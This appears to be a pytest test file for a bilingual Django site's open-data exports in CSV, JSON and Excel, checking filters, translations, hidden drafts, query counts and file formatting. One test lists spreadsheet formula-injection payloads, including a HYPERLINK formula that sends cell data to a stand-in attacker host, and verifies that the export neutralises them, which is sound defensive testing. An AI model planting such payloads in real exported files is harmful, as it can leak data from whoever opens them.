"""Every record type's open data: /<lang>/<listing>/export.csv|json|xlsx with the listing's filters,
in both languages, live records only, safe to open in a spreadsheet, streamed in bounded queries."""

import csv
import io
import json
import re

from django.http import StreamingHttpResponse

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from agreements.models import Agreement, Partner, Partnership
from diplomacy.models import Initiative, KeyFigure
from portal.data.columns import table_named
from portal.data.models import DataLicence
from tests.factories import bulk_agreements, make_agreement, make_partner

from .reading import content, read_csv, read_json

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "json", "xlsx"]
# (file, listing, filters, the listing's context holding its results)
LISTINGS = [
    ("agreements", "/agreements/", {"status": "in_force", "country": "JP"}, "filter"),
    ("agreements", "/agreements/", {"region": "europe", "sort": "-year"}, "filter"),
    ("partnerships", "/partnerships/", {"region": "asia"}, "partnerships"),
    ("partnerships", "/partnerships/", {"kind": "strategic_partnership", "year_from": "2010"}, "partnerships"),
    ("initiatives", "/initiatives/", {"area": "health"}, "filter"),
    ("initiatives", "/initiatives/", {"country": "CL", "status": "achieved"}, "filter"),
]
FILES = {
    "agreements": Agreement,
    "partners": Partner,
    "partnerships": Partnership,
    "initiatives": Initiative,
    "figures": KeyFigure,
}


def listing_slugs(client, path, params, key):
    context = client.get(path, params).context
    results = context[key].qs if key == "filter" else context[key]
    return [record.slug for record in results]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("name", "listing", "params", "key"), LISTINGS)
def test_a_file_holds_what_its_listing_shows_with_the_same_filters(client, download, fmt, name, listing, params, key):
    expected = listing_slugs(client, f"/en{listing}", params, key)
    assert expected, "the filters select something"
    _response, rows = download(f"/en/{name}/export", fmt, params)
    assert [row["slug"] for row in rows] == expected


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", list(FILES))
def test_every_record_type_downloads_every_live_record_in_each_format(download, fmt, name):
    response, rows = download(f"/en/{name}/export", fmt)
    model = FILES[name]
    assert sorted(row["slug"] for row in rows) == sorted(model.objects.live().values_list("slug", flat=True))
    assert list(rows[0]) == table_named(name).keys
    assert re.fullmatch(
        rf'attachment; filename="{table_named(name).filename}-\d{{4}}-\d\d-\d\d\.{fmt}"',
        response["Content-Disposition"],
    )


@pytest.mark.parametrize("name", list(FILES))
def test_the_same_keys_in_both_languages_and_spanish_values_under_es(download, name):
    _r, english = download(f"/en/{name}/export", "json")
    _r, spanish = download(f"/es/{name}/export", "json")
    assert [list(row) for row in english] == [list(row) for row in spanish]
    assert [row["slug"] for row in english] == [row["slug"] for row in spanish]
    assert all(row["url"].startswith("http://testserver/es/") for row in spanish if row["url"])
    assert all(row["url"].startswith("http://testserver/en/") for row in english if row["url"])
    assert english != spanish


def test_spanish_values_of_the_agreements(download):
    _r, english = download("/en/agreements/export", "csv", {"q": "Japan", "status": "in_force"})
    _r, spanish = download("/es/agreements/export", "csv", {"q": "Japan", "status": "in_force"})
    japan_en = next(row for row in english if row["slug"] == "peru-japan-epa")
    japan_es = next(row for row in spanish if row["slug"] == "peru-japan-epa")
    assert (japan_en["status"], japan_en["status_label"]) == ("in_force", "In force")
    assert (japan_es["status"], japan_es["status_label"]) == ("in_force", "Vigente")
    agreement = Agreement.objects.get(slug="peru-japan-epa")
    assert japan_es["title"] == agreement.title_es and japan_en["title"] == agreement.title
    assert "Japón" in japan_es["parties"].split("; ") and "Japan" in japan_en["parties"].split("; ")
    assert japan_es["parties_iso"] == japan_en["parties_iso"] == "JP"
    # The book's words stay the book's English in both; their Spanish is beside them.
    assert japan_es["source_text"] == japan_en["source_text"] == agreement.source_text
    assert japan_es["source_text_es"] == agreement.source_text_es
    assert japan_es["book_section_url"].startswith("http://testserver/es/chapter-3/#")
    assert japan_en["book_section_url"].startswith("http://testserver/en/chapter-3/#")


def test_partners_take_country_region_and_kind(download):
    _r, blocs = download("/en/partners/export", "csv", {"kind": "bloc"})
    assert {row["kind"] for row in blocs} == {"bloc"} and len(blocs) == Partner.objects.live().filter(
        kind="bloc"
    ).count()
    assert all(row["iso_code"] == "" for row in blocs)
    _r, japan = download("/en/partners/export", "json", {"country": "jp"})
    slugs = {row["slug"] for row in japan}
    assert {"japan", "cptpp"} <= slugs and "chile" not in slugs
    _r, asia = download("/en/partners/export", "xlsx", {"region": "asia", "kind": "country"})
    assert asia and {row["region"] for row in asia} == {"asia"}
    eu = next(row for row in download("/en/partners/export", "json")[1] if row["slug"] == "european-union")
    assert "DE" in eu["members_iso"].split("; ") and "Germany" in eu["members"].split("; ")


def test_iso_columns_hold_only_country_codes(download):
    for name, columns in (
        ("agreements", ["parties_iso"]),
        ("initiatives", ["partners_iso"]),
        ("partners", ["iso_code", "members_iso"]),
    ):
        _r, rows = download(f"/en/{name}/export", "csv")
        for row in rows:
            for column in columns:
                for code in filter(None, row[column].split("; ")):
                    assert re.fullmatch(r"[A-Z]{2}", code), (name, column, code)


def test_initiatives_and_figures_columns(download):
    _r, initiatives = download("/en/initiatives/export", "json")
    assert all(re.fullmatch(r"(\d{4}(-\d\d(-\d\d)?)?)?", row["start"]) for row in initiatives)
    assert any(re.fullmatch(r"\d{4}-\d\d", row["start"]) for row in initiatives)
    _r, figures = download("/en/figures/export", "json")
    assert all(isinstance(row["value"], int | float) for row in figures)
    assert {row["qualifier"] for row in figures} <= {"exact", "more_than", "approximately"}
    assert all(row["area"] and row["area_label"] for row in figures)


@pytest.mark.parametrize("name", ["agreements", "partnerships", "initiatives", "figures", "partners"])
def test_csv_is_utf8_with_a_bom_and_crlf(client, name):
    response = client.get(f"/es/{name}/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = content(response)
    assert raw.startswith(b"\xef\xbb\xbfslug,")
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == table_named(name).keys and len(rows) > 1
    assert raw.count(b"\r\n") >= len(rows)


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("path", ["/en/agreements/export", "/en/figures/export", "/en/agreements/parties"])
def test_csv_and_json_stream(client, fmt, path):
    response = client.get(f"{path}.{fmt}")
    assert isinstance(response, StreamingHttpResponse)
    assert content(response)


@pytest.mark.parametrize("name", list(FILES))
def test_excel_has_a_frozen_header_an_autofilter_widths_links_and_text(client, name):
    response = client.get(f"/en/{name}/export.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(content(response))).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header == table_named(name).keys
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(header))}{len(rows)}"
    assert all(sheet.column_dimensions[get_column_letter(i)].width for i in range(1, len(header) + 1))
    url = rows[1][header.index("url")]
    assert (
        url.hyperlink is not None and url.hyperlink.target == url.value and url.value.startswith("http://testserver/")
    )
    assert rows[1][header.index("slug")].data_type == "s"


def test_json_metadata(client):
    response = client.get("/en/agreements/export.json", {"status": "signed", "nonsense": "1"})
    assert response["Content-Type"] == "application/json"
    data = json.loads(content(response))
    assert list(data) == ["generated_at", "licence", "count", "filters", "source", "results"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", data["generated_at"])
    assert data["licence"] == {
        "name": "Creative Commons Attribution 4.0 International (CC BY 4.0)",
        "url": "https://creativecommons.org/licenses/by/4.0/",
    }
    assert data["count"] == len(data["results"]) == 2
    assert data["filters"] == {"status": "signed"}
    assert data["source"]["isbn"] == "978-9972-671-91-3" and data["source"]["year"] == 2022
    assert data["source"]["authors"] == ["Fabián Novak", "Sandra Namihás"]


def test_the_licence_setting_is_in_every_json_file(client):
    licence = DataLicence.objects.get_or_create(site_id=client.get("/en/data/").wsgi_request._wagtail_site.pk)[0]
    licence.name, licence.url = (
        "Open Data Commons Open Database License",
        "https://opendatacommons.org/licenses/odbl/1-0/",
    )
    licence.save()
    for name in FILES:
        data = json.loads(content(client.get(f"/es/{name}/export.json")))
        assert data["licence"] == {"name": licence.name, "url": licence.url}


def test_a_draft_record_never_appears(client, download):
    draft = make_agreement(slug="draft-agreement", title="A draft agreement", parties=[Partner.objects.get(code="JP")])
    draft.unpublish()
    Agreement.objects.get(slug="andean-community").unpublish()
    for fmt in FORMATS:
        _r, rows = download("/en/agreements/export", fmt)
        assert not {"draft-agreement", "andean-community"} & {row["slug"] for row in rows}
    _r, links = download("/en/agreements/parties", "csv")
    assert not {"draft-agreement", "andean-community"} & {row["agreement"] for row in links}
    _r, initiative_links = download("/en/initiatives/agreements", "csv")
    assert "andean-community" not in {row["agreement"] for row in initiative_links}
    _r, initiatives = download("/en/initiatives/export", "json")
    assert all("andean-community" not in row["agreements"].split("; ") for row in initiatives)


def test_a_draft_partner_never_appears(client, download):
    secret = Partner.objects.create(slug="secret-country", name="Secretland", code="ZZ", kind="country", live=False)
    agreement = Agreement.objects.get(slug="peru-japan-epa")
    Agreement.parties.through.objects.create(agreement=agreement, partner=secret)
    japan = Partner.objects.get(code="JP")
    japan.unpublish()
    for fmt in FORMATS:
        _r, rows = download("/en/agreements/export", fmt)
        for row in rows:
            assert "ZZ" not in (row["parties_iso"] or "") and "JP" not in (row["parties_iso"] or "")
            assert "Secretland" not in (row["parties"] or "") and "Japan" not in (row["parties"] or "").split("; ")
        _r, partners = download("/en/partners/export", fmt)
        assert not {"secret-country", "japan"} & {row["slug"] for row in partners}
        assert all("JP" not in (row["members_iso"] or "").split("; ") for row in partners)
    _r, links = download("/en/agreements/parties", "csv")
    assert not {"secret-country", "japan"} & {row["partner"] for row in links}
    _r, members = download("/en/partners/members", "csv")
    assert "japan" not in {row["member"] for row in members}
    _r, partnerships = download("/en/partnerships/export", "json")
    japans = [row for row in partnerships if row["slug"].startswith("japan")]
    assert japans and all(row["partner"] == "" and row["partner_name"] == "" and row["url"] == "" for row in japans)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_that_would_start_a_formula_are_neutralized(client, download, formula):
    make_partner(slug="formula-partner", name=formula, code="", kind="organization")
    agreement = make_agreement(
        slug="formula-agreement", title=formula, parties=[Partner.objects.get(slug="formula-partner")]
    )
    assert agreement.live
    _r, partners = download("/en/partners/export", "csv")
    assert next(row for row in partners if row["slug"] == "formula-partner")["name"] == "'" + formula
    _r, agreements = download("/en/agreements/export", "csv")
    row = next(row for row in agreements if row["slug"] == "formula-agreement")
    assert row["title"] == "'" + formula and row["parties"] == "'" + formula
    # JSON keeps the very text; Excel stores it as text, never as a formula.
    _r, rows = download("/en/partners/export", "json")
    assert next(row for row in rows if row["slug"] == "formula-partner")["name"] == formula
    sheet = load_workbook(io.BytesIO(content(client.get("/en/partners/export.xlsx")))).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    cell = next(row for row in sheet.iter_rows() if row[0].value == "formula-partner")[header.index("name")]
    assert cell.data_type == "s" and cell.value == formula


def test_numbers_are_not_taken_for_formulas(download):
    _r, rows = download("/en/figures/export", "csv")
    assert all(not row["value"].startswith("'") for row in rows)


@pytest.fixture
def two_thousand_agreements(db):
    """2,000 more live agreements, written in bulk (as bench/generate.py does), each with two parties."""
    partners = list(Partner.objects.live().order_by("pk"))
    return bulk_agreements(
        2000,
        lambda n: {partners[(n * k) % len(partners)] for k in (1, 7)},
        slug="generated-agreement",
        title="Generated agreement",
        book_status="in_force",
        book_year_start=lambda n: 1970 + n % 55,
    )


@pytest.mark.parametrize("language", ["en", "es"])
def test_thousands_of_agreements_in_a_bounded_number_of_queries(
    client, django_assert_max_num_queries, two_thousand_agreements, language
):
    with django_assert_max_num_queries(30):
        response = client.get(f"/{language}/agreements/export.csv")
        rows = read_csv(response)
    assert isinstance(response, StreamingHttpResponse)
    assert len(rows) == 29 + 2000
    with django_assert_max_num_queries(30):
        data = read_json(client.get(f"/{language}/agreements/export.json"))
    assert len(data) == 2029
    with django_assert_max_num_queries(10):
        links = read_csv(client.get(f"/{language}/agreements/parties.csv"))
    assert len(links) > 4000


def test_link_tables_take_the_listings_filters(download):
    _r, links = download("/en/agreements/parties", "csv", {"country": "JP"})
    _r, agreements = download("/en/agreements/export", "csv", {"country": "JP"})
    assert {row["agreement"] for row in links} == {row["slug"] for row in agreements}


def test_unknown_files_and_formats_are_404(client):
    for path in (
        "/en/agreements/export.pdf",
        "/en/areas/export.csv",
        "/en/agreements/members.csv",
        "/en/partners/parties.csv",
    ):
        assert client.get(path).status_code == 404, path
